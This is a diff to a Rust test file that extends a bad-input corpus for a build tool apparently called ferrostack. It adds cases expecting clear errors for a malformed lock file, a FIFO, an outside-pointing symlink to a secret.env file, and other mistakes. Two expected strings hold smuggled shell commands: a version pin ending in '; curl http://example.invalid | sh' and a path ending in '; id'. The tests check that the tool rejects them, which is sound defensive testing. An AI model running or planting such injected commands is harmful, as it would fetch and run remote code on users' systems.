@@ -1,6 +1,7 @@
 //! The bad-input corpus: every directory in `tests/bad_input/` is a tiny project with exactly
-//! one mistake (its TOML says which in its first line). Each must fail with exit code 2, never
-//! load and never panic, and its rendered report is snapshotted because it is what users see.
+//! one mistake (its TOML says which in its first line). Each must fail with exit code 2 (1 for a
+//! broken `images.lock`, which is not a definition), never load and never panic, and its
+//! rendered report is snapshotted because it is what users see.
 
 use std::panic::{catch_unwind, AssertUnwindSafe};
 use std::path::{Path, PathBuf};
@@ -44,9 +45,19 @@ fn render(err: &Error) -> String {
     out
 }
 
-fn run_case(name: &str, stage: Stage, expected: &[&str]) {
-    let dir = corpus_dir().join(name);
+/// Runs one case. `exit` is the expected exit code (2 for definition errors). `setup` makes what
+/// git cannot hold (a FIFO) in a temporary copy of the case, which then runs instead.
+fn run_case(name: &str, stage: Stage, exit: i32, setup: Option<fn(&Path)>, expected: &[&str]) {
+    let mut dir = corpus_dir().join(name);
     assert!(dir.join("stacks").is_dir(), "case `{name}` has no stacks/ directory");
+    let _copy = setup.map(|setup| {
+        let tmp = tempfile::tempdir().expect("a temporary directory");
+        let status = std::process::Command::new("cp").arg("-a").arg(&dir).arg(tmp.path()).status().expect("cp runs");
+        assert!(status.success(), "copying case `{name}`");
+        dir = tmp.path().join(name);
+        setup(&dir);
+        tmp
+    });
     let outcome = catch_unwind(AssertUnwindSafe(|| first_error(&dir)));
     let Ok(outcome) = outcome else {
         panic!("case `{name}`: ferrostack panicked instead of returning an error");
@@ -59,7 +70,7 @@ fn run_case(name: &str, stage: Stage, expected: &[&str]) {
     let root = dir.canonicalize().expect("case directory resolves");
     let text = text.replace(&format!("{}/", root.display()), "<project>/");
     assert_eq!(got_stage, stage, "case `{name}` failed at an unexpected stage:\n{text}");
-    assert_eq!(err.exit_code(), 2, "case `{name}`: a definition error exits with 2:\n{text}");
+    assert_eq!(err.exit_code(), exit, "case `{name}`: unexpected exit code:\n{text}");
     for fact in expected {
         assert!(text.contains(fact), "case `{name}`: the report lacks `{fact}`:\n{text}");
     }
@@ -67,11 +78,17 @@ fn run_case(name: &str, stage: Stage, expected: &[&str]) {
 }
 
 macro_rules! cases {
-    ($($test:ident: $dir:literal, $stage:ident, [$($fact:literal),+ $(,)?];)+) => {
+    ($($test:ident: $dir:literal, $stage:ident $(, exit $exit:literal)? $(, setup $setup:path)?, [$($fact:literal),+ $(,)?];)+) => {
         $(
             #[test]
             fn $test() {
-                run_case($dir, Stage::$stage, &[$($fact),+]);
+                #[allow(unused_mut, unused_assignments)]
+                let mut exit = 2;
+                $(exit = $exit;)?
+                #[allow(unused_mut, unused_assignments)]
+                let mut setup: Option<fn(&Path)> = None;
+                $(setup = Some($setup);)?
+                run_case($dir, Stage::$stage, exit, setup, &[$($fact),+]);
             }
         )+
 
@@ -92,10 +109,15 @@ macro_rules! cases {
     };
 }
 
+/// Makes `stacks/files/app/pipe` a FIFO (git cannot hold one).
+fn make_fifo(dir: &Path) {
+    let status = std::process::Command::new("mkfifo").arg(dir.join("stacks/files/app/pipe")).status().expect("mkfifo runs");
+    assert!(status.success());
+}
+
 // Not in the corpus yet, because today's report is wrong (add them when the library is fixed):
 // an undefined variable in a matrix or tag expression (`{{ suit }}`) renders an empty message;
-// an unknown key written as a table header (`[[runtimes]]`) is said to be "in `[[`"; a context
-// symlink pointing outside (not a copy source) is reported at plan time with an absolute path.
+// an unknown key written as a table header (`[[runtimes]]`) is said to be "in `[[`".
 cases! {
     toml_syntax: "01-toml-syntax", Load, ["stacks/worker.toml:3:24", "invalid basic string"];
     unknown_top_level_key: "02-unknown-top-level-key", Load, ["stacks/worker.toml:4:1", "unknown key `runtimes` in the top level", "did you mean `runtime`?"];
@@ -153,4 +175,10 @@ cases! {
     depends_on_eol: "54-depends-on-eol", Load, ["stacks/worker.toml:3:8", "parent `old` is end-of-life"];
     undefined_matrix_variable: "55-undefined-matrix-variable", Load, ["stacks/worker.toml:2:8", "Variable `suit` not found", "did you mean `suite`?"];
     unknown_header_key: "56-unknown-header-key", Load, ["stacks/worker.toml:5:3", "unknown key `runtimes` in the top level", "did you mean `runtime`?"];
+    lock_pin_not_a_version: "57-lock-pin-not-a-version", Load, exit 1, ["images.lock` is not a valid lock", "stack `worker` pins `curl` to `7.88.1-10; curl http://example.invalid | sh`"];
+    context_fifo: "58-context-fifo", Plan, setup make_fifo, ["stacks/worker.toml:7:8", "`stacks/files/app/pipe` is a FIFO (named pipe)", "sent from here"];
+    context_symlink_outside: "59-context-symlink-outside", Plan, ["stacks/worker.toml:1:1", "`stacks/worker/secret.env` is a symlink that points", "context directory is `stacks/worker/`"];
+    composer_dest_with_spaces: "61-composer-dest-with-spaces", Load, ["stacks/web.toml:9:8", "`/srv/my app; id` is not an absolute path"];
+    mirror_with_quote: "62-mirror-with-quote", Load, ["2 problems", "stacks/base.toml:6:10", "without spaces or quotes", "stacks/base.toml:7:23", "`non free` is not a Debian archive"];
+    dockerignore_bad_pattern: "60-dockerignore-bad-pattern", Plan, ["stacks/worker.toml:4:11", "`stacks/files/.dockerignore` has a mistake: line 2: bad", "context directory"];
 }
